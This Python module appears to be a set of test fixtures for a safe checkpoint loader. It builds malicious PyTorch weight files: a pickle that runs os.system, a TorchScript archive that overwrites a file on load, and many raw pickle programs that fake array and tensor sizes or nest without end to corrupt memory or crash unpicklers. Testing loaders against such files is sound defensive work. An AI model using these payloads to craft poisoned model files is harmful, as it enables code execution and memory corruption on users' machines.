"""Malicious weight files that run a command when unpickled or loaded by torch.jit."""

import os
import pickle
import zipfile
from pathlib import Path

import torch


class Command:
    """Creates a file when unpickled."""

    def __init__(self, marker):
        self.marker = marker

    def __reduce__(self):
        return os.system, (f'touch {self.marker}',)


class Overwriting(torch.nn.Module):
    """Overwrites a file when its TorchScript archive is loaded."""

    def __init__(self, victim: str):
        super().__init__()
        self.victim = victim
        self.register_buffer('w', torch.ones(1))

    @torch.jit.export
    def __getstate__(self) -> tuple[torch.Tensor, str, bool]:
        return self.w, self.victim, self.training

    @torch.jit.export
    def __setstate__(self, state: tuple[torch.Tensor, str, bool]) -> None:
        self.victim = state[1]
        self.training = state[2]
        memory = torch.from_file(state[1], True, 8, dtype=torch.uint8)
        memory.fill_(65)
        self.w = memory.float()

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return x


def write_command(path: Path, marker: Path, legacy: bool = False, **content) -> None:
    """Write a checkpoint that touches ``marker`` when it is unpickled."""
    content = {'meta': {}, 'state_dict': {}, **content, 'x': Command(marker)}
    torch.save(content, path, _use_new_zipfile_serialization=not legacy)


def write_program(path: Path, program: bytes, legacy: bool = False) -> Path:
    """A checkpoint of 4 numbers whose pickle makes a dict with what the program leaves."""
    content = b'\x80\x02}Vx\n' + program + b's.'
    if legacy:
        head = (0x1950A86A20F9469CFC6C, 1001, {'little_endian': True})
        parts = [pickle.dumps(part, 2) for part in head]
        numbers = (4).to_bytes(8, 'little') + bytes(16)
        # Before the sizes there was one number more in the identity of a storage.
        content = content.replace(b'tQ', b'NtQ')
        path.write_bytes(b''.join(parts) + content + pickle.dumps(['0'], 2) + numbers)
        return path
    with zipfile.ZipFile(path, 'w') as archive:
        parts = {'data.pkl': content, 'byteorder': b'little', 'data/0': bytes(16), 'version': b'3'}
        for name, part in parts.items():
            archive.writestr(f'x/{name}', part)
    return path


def array(kind: bytes, shape: bytes, content: bytes) -> bytes:
    """Program for a NumPy array of a type, which is a program, too."""
    empty = b'cnumpy.core.multiarray\n_reconstruct\n(cnumpy\nndarray\n(K\0tVb\ntR'
    size = len(content).to_bytes(4, 'little')
    return empty + b'(K\x01(' + shape + b't' + kind + b'I00\nB' + size + content + b'tb'


def changed_dtype(name: bytes, state: bytes) -> bytes:
    """An array whose type gets another state once the array is there."""
    dtype = b'cnumpy\ndtype\n(V' + name + b'\nI00\nI01\ntRp5\n'
    return array(dtype, b'K\x01', b'a' * int(name[1:])) + b'g5\n(K\x03' + state + b'tb0'


STORAGE = b'(Vstorage\nctorch\nFloatStorage\nV0\nVcpu\nK\x04tQ'
_BYTES = b'cnumpy\ndtype\n(Vu1\nI00\nI01\ntR'
_MODULE = b'cmmengine.logging.history_buffer\nHistoryBuffer\n'


def tensor(offset: bytes, size: bytes, stride: bytes, storage: bytes = STORAGE) -> bytes:
    """Program for a tensor of the 4 numbers."""
    shape = offset + b'(' + size + b't(' + stride + b't'
    return b'ctorch._utils\n_rebuild_tensor_v2\n(' + storage + shape + b'I00\n}tR'


_TENSOR = tensor(b'K\0', b'K\x04', b'K\x01')
DEEP = b')' + b'\x85' * 200_000
"""Tuples in each other, whose hash Python computes by recursion."""
MEMORY_ATTACKS = dict(
    wider_strings=changed_dtype(b'S1', b'V|\nNNNM\xe8\x03K\x01K\0'),
    wider_numbers=changed_dtype(b'f4', b'V<\nNNNM\xe8\x03K\x01K\0'),
    strings_as_objects=changed_dtype(b'S8', b'V|\nNNNK\x08K\x01K\x01'),
    numbers_as_objects=changed_dtype(b'i8', b'V<\nNNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x3f'),
    fields=changed_dtype(b'i8', b'V<\nN(Va\nt}Va\n(ctorch\nint8\nM\0\x10tsK\x08K\x01K\0'),
    short_array=array(_BYTES, b'M\0\x10', b'a'),
    overflowing_array=array(_BYTES, b'K\0' + b'\x8a\x08' + b'\xff' * 7 + b'\x3f' + b'M\0\x10', b''),
    negative_array=array(_BYTES, b'J\xff\xff\xff\xffJ\xff\xff\xff\xff', b'a'),
    short_scalar=b'cnumpy.core.multiarray\nscalar\n(' + _BYTES + b'C\0tR',
    array_on_a_buffer=b'cnumpy\nndarray\n((K\x01t' + _BYTES + array(_BYTES, b'K\x01', b'a') + b'tR',
    view_of_an_array=array(_BYTES, b'K\x01', b'a') + b'\x98',
    large_buffer=b'\x96' + (2**33).to_bytes(8, 'little'),
    entry_of_an_array=array(_BYTES, b'K\x01', b'a') + b'K\0K\0s',
    entry_of_a_tensor=_TENSOR + b'K\0K\0s',
    entry_of_a_storage=STORAGE + b'K\0K\0s',
    other_storage=STORAGE + b'}Vdtype\nctorch\nqint32\nsb',
    other_tensor=_TENSOR + b'(' + STORAGE + b'K\0(M\0\x10t(K\x01ttb',
    beyond_the_storage=tensor(b'K\0', b'M\0\x10', b'K\x01'),
    offset_beyond_the_storage=tensor(b'K\x02', b'K\x04', b'K\x01'),
    steps_beyond_the_storage=tensor(b'K\0', b'K\x02K\x02', b'K\x03K\x01'),
    steps_before_the_storage=tensor(b'K\x03', b'K\x04', b'J\xff\xff\xff\xff'),
    no_storage=tensor(b'K\0', b'K\x04', b'K\x01', storage=_TENSOR),
    no_lists_of_numbers=b'cmmengine.logging.history_buffer\nHistoryBuffer\n)\x81}(V_log_history\n]'
    b'(]]eV_count_history\n]V__class__\nNVmax_length\nK\1ub',
    attribute_of_a_class=_MODULE + b'N}V__name__\nVhello\ns\x86b',
    source_of_a_module=b'(Vmodule\n' + _MODULE + b'Va\nVb\nK\x01tQ',
    deep_key=b'}' + DEEP + b'Ns',
    deep_member=b'cbuiltins\nset\n(](' + DEEP + b'etR',
    deep_identity=b'(Vstorage\nctorch\nFloatStorage\n' + DEEP + b'Vcpu\nK\x04tQ',
    deep_slices=b'cbuiltins\nslice\nq\x010Nq\x000' + b'h\x01h\x00\x85Rq\x000' * 200_000 + b'h\0',
)
"""Programs that lie about sizes and types, are nested without end, or change what is not theirs."""
